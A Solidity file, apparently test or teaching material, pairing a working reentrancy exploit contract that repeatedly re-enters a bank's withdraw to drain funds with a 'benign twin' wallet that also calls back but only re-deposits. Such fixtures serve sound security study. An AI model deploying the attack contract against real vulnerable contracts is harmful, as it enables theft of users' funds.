// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

import {IBank} from "./Interfaces.sol";

/// Withdraws again while it is being paid, some times over.
contract ReentrancyAttack {
    IBank private immutable bank;
    address payable private immutable owner = payable(msg.sender);
    uint256 private rounds;

    constructor(IBank bank_) {
        bank = bank_;
    }

    function attack(uint256 rounds_) external payable {
        rounds = rounds_;
        bank.deposit{value: msg.value}();
        bank.withdraw(msg.value);
        owner.transfer(address(this).balance);
    }

    receive() external payable {
        if (rounds == 0) return;
        rounds -= 1;
        bank.withdraw(msg.value);
    }
}

/// A thrifty wallet, the benign twin: while it is being paid it calls the bank too, and puts half of the payment back.
contract SavingWallet {
    IBank private immutable bank;
    address payable private immutable owner = payable(msg.sender);

    constructor(IBank bank_) {
        bank = bank_;
    }

    function save() external payable {
        bank.deposit{value: msg.value}();
    }

    function take(uint256 amount) external {
        require(msg.sender == owner, "not the owner");
        bank.withdraw(amount);
        owner.transfer(address(this).balance);
    }

    receive() external payable {
        bank.deposit{value: msg.value / 2}();
    }
}
